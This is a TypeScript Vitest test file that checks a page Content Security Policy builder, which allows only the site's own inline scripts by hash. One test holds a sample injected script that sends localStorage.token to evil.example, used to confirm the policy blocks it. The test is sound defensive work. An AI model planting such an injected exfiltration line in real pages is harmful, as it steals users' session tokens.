import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { pageContentSecurityPolicy } from "./page-csp.ts";

const hash = (s: string) => `'sha256-${createHash("sha256").update(s).digest("base64")}'`;
const scriptSrc = (csp: string) => csp.split("; ").find((d) => d.startsWith("script-src"))!;

describe("pageContentSecurityPolicy", () => {
  it("allows exactly the inline scripts the site wrote in this render, by hash", () => {
    const html = `<html><head><script nonce="n0nce">window.a=1</script><script type="module" nonce="n0nce">import("/assets/x.js")</script><script src="/assets/y.js"></script></head><body><script type="application/ld+json">{"a":1}</script></body></html>`;
    const csp = pageContentSecurityPolicy(html, "n0nce");
    expect(scriptSrc(csp)).toContain(hash("window.a=1"));
    expect(scriptSrc(csp)).toContain(hash('import("/assets/x.js")'));
    expect(scriptSrc(csp)).not.toContain("unsafe-inline");
    expect(scriptSrc(csp)).not.toContain("nonce");
    expect(scriptSrc(csp).match(/sha256-/g)).toHaveLength(2);
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
  });

  it("refuses an inline script injected into the page (security review L1), with or without a guessed nonce", () => {
    const injected = "fetch('//evil.example/?t='+localStorage.token)";
    const html = `<script nonce="r3nder">window.a=1</script><div class="post"><script>${injected}</script><script nonce="guess">${injected}</script></div>`;
    const csp = pageContentSecurityPolicy(html, "r3nder");
    expect(scriptSrc(csp)).toBe(`script-src 'self' ${hash("window.a=1")}`);
    // A render that wrote no nonce (not the app's document) allows no inline script at all.
    expect(scriptSrc(pageContentSecurityPolicy(html, null))).toBe("script-src 'self'");
  });

  it("gives the same policy for the same page, so a cached page keeps a valid one", () => {
    const html = '<script nonce="n">x()</script>';
    expect(pageContentSecurityPolicy(html, "n")).toBe(pageContentSecurityPolicy(html, "n"));
    expect(pageContentSecurityPolicy('<script nonce="n">y()</script>', "n")).not.toBe(
      pageContentSecurityPolicy(html, "n"),
    );
  });
});
